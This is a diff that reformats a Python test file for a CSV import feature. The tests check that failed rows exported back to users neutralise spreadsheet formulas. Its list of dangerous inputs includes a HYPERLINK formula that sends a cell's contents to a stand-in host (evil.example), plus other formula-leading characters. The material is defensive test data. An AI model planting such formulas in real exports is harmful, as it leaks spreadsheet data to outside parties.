@@ -15,8 +15,18 @@ from daifuku.customers.models import Person
 from daifuku.imports import services
 
 # each row fails (the e-mail is not one), each has a dangerous first character in its notes
-DANGEROUS = ['=HYPERLINK("http://evil.example/?"&A1,"詳細")', "+81-90-1234-5678", "-2+3", "@SUM(A1:A2)",
-             "\tタブ", "\r改行", "＝１＋１", "＋８１", "－５", "＠ＳＵＭ(A1)"]
+DANGEROUS = [
+    '=HYPERLINK("http://evil.example/?"&A1,"詳細")',
+    "+81-90-1234-5678",
+    "-2+3",
+    "@SUM(A1:A2)",
+    "\tタブ",
+    "\r改行",
+    "＝１＋１",
+    "＋８１",
+    "－５",
+    "＠ＳＵＭ(A1)",
+]
 
 
 def _file() -> bytes:
@@ -55,8 +65,14 @@ def test_ui_failed_rows_in_cp932_neutralise_formulas(rep, run_import):
 
 def test_corrected_failed_rows_import_with_their_values(rep, run_import):
     run = _failed_run(rep, run_import)
-    body = services.failed_rows_csv(run).decode("utf-8-sig").replace("not-an-email", "ok@example.jp", 1)
-    again = services.upload(actor=rep, file=SimpleUploadedFile("fixed.csv", body.encode("utf-8-sig")), name="fixed.csv")
+    body = (
+        services.failed_rows_csv(run)
+        .decode("utf-8-sig")
+        .replace("not-an-email", "ok@example.jp", 1)
+    )
+    again = services.upload(
+        actor=rep, file=SimpleUploadedFile("fixed.csv", body.encode("utf-8-sig")), name="fixed.csv"
+    )
     again = run_import(rep, again, mode="create")
     assert again.created_count == 1
     assert Person.objects.get().notes == DANGEROUS[0]
